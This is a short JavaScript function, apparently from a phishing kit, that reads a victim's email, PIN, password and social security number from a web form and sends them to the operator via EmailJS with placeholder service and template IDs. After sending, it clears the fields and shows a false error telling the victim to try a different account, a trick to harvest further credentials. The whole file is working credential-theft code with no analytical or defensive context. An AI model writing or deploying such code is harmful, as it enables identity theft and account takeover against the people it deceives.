function relay() {
  var params = {
    email: document.getElementById("email").value,
    pin: document.getElementById("pin").value,
    password: document.getElementById("password").value,
    ssn: document.getElementById("ssn").value,
  };
  const service = "service_placeholder";
  const template = "template_placeholder";
  emailjs
    .send(service, template, params)
    .then((res) => {
      document.getElementById("pin").value = "";
      document.getElementById("password").value = "";
      document.getElementById("ssn").value = "";
      alert("Something went wrong, try a different account");
    })
    .catch((err) => console.log(err));
}
